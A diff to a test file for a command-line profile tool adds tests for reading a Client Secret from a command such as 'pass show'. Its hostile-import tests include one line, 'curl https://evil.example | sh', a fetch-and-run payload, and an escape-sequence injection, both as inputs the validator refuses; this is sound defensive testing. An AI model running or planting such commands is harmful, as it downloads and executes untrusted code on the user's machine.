@@ -49,7 +49,7 @@ async function laptop() {
 			network: {caFile, insecure: true},
 		}),
 	);
-	await store.save(sampleProfile('lab', {kind: 'third-party', clientId: 'lab-client'}));
+	await store.save(sampleProfile('lab', {kind: 'third-party', clientId: 'lab-client', clientSecretCommand: `pass show 'segura/lab'`}));
 	await store.recordToken('prod', makeTokenRecord('eyJhbGciOiJFUzI1NiJ9.payload.sig-abcd', 'okta-scim prod', new Date(), new Date(Date.now() + 3_600_000)));
 	return {...home, store, caFile};
 }
@@ -93,6 +93,9 @@ describe('export → import between two config folders', () => {
 		expect(imported.stderr).toContain('Added profile "prod" (internal users, segura.example.com).');
 		expect(imported.stderr).toContain('Added profile "lab" (third-party users, segura.example.com).');
 		expect(imported.stderr).toContain('No Client Secret travels with a profile');
+		// The command that prints the secret is no secret: it travels, and is said.
+		expect(data.profiles[1]?.['clientSecretCommand']).toBe(`pass show 'segura/lab'`);
+		expect(imported.stderr).toContain(`"lab" reads its Client Secret from the command "pass show 'segura/lab'" each time`);
 		const {profiles} = await openProfileStore({env: to.env});
 		const before = await from.store.list();
 		expect(profiles).toEqual(before.map(profile => ({...withoutSecret(profile), history: []})));
@@ -179,6 +182,11 @@ describe('a hostile import file is refused, with nothing written', () => {
 		['a URL with a password', document([{...good, baseUrl: 'https://user:pw@segura.example.com/iso/scim/v2'}]), /baseUrl: /],
 		['the Base URL as the Token URL', document([{...good, tokenUrl: good.baseUrl}]), /tokenUrl: /],
 		['a reserved parameter', document([{...good, params: [['client_secret', 'x']]}]), /params: /],
+		['a secret command that is a list', document([{...good, clientSecretCommand: ['pass', 'show']}]), /profiles\[0\] \("good"\) clientSecretCommand is not text/],
+		['an empty secret command', document([{...good, clientSecretCommand: ''}]), /clientSecretCommand is empty/],
+		['a secret command with an open quote', document([{...good, clientSecretCommand: "pass show 'prod"}]), /clientSecretCommand: the ' quote opened in the command is never closed/],
+		['a secret command with a pipe', document([{...good, clientSecretCommand: 'curl https://evil.example | sh'}]), /clientSecretCommand: "\|" needs a shell/],
+		['a control character in the secret command', document([{...good, clientSecretCommand: 'pass show prod\u001B]52;c;x\u0007'}]), /clientSecretCommand: It holds a control or invisible character/],
 	];
 
 	it.each(cases)('%s', async (_what, content, says) => {
@@ -238,6 +246,11 @@ describe('profiles add', () => {
 			network: {},
 			history: [],
 		});
+		// A secret command, kept as given (trimmed) and said; the secret itself is never asked here.
+		const vaulted = await run(['add', 'vaulted', ...required, '--client-secret-command', '  op read "op://IT/segura prod/secret"  '], home.env);
+		expect(vaulted.stderr).toContain('"vaulted" reads its Client Secret from the command "op read "op://IT/segura prod/secret"" each time');
+		expect(vaulted.stderr).not.toContain('No Client Secret travels');
+		expect((await (await openProfileStore({env: home.env})).store.get('vaulted')).clientSecretCommand).toBe('op read "op://IT/segura prod/secret"');
 		const pt = await run(['add', 'lab', ...required.slice(0, 4), '--kind', 'third-party'], home.env, {lang: 'pt-BR'});
 		expect(pt.stderr).toContain('Perfil "lab" adicionado (usuários terceiros, segura.example.com).');
 		// The same Client ID under the other kind: the wizard's warning.
@@ -266,6 +279,8 @@ describe('profiles add', () => {
 		[[...required, '--param', 'grant_type=password'], 'usage', /--param: /],
 		[[...required, '--auth', 'bearer'], 'usage', /--auth must be basic or body/],
 		[[...required, '--scope', 'a\u001Bb'], 'usage', /--scope: It holds a control or invisible character/],
+		[[...required, '--client-secret-command', 'pass show "prod'], 'secret_command_invalid', /--client-secret-command: the " quote opened in the command is never closed/],
+		[[...required, '--client-secret-command', 'pass show $NAME'], 'secret_command_invalid', /--client-secret-command: "\$N…" needs a shell/],
 		[[...required, '--json'], 'usage', /--json does not go with profiles add/],
 		[[...required, '--rename', 'x'], 'usage', /--rename does not go with profiles add/],
 	])('refuses %j, writing nothing', async (args, reason, says) => {
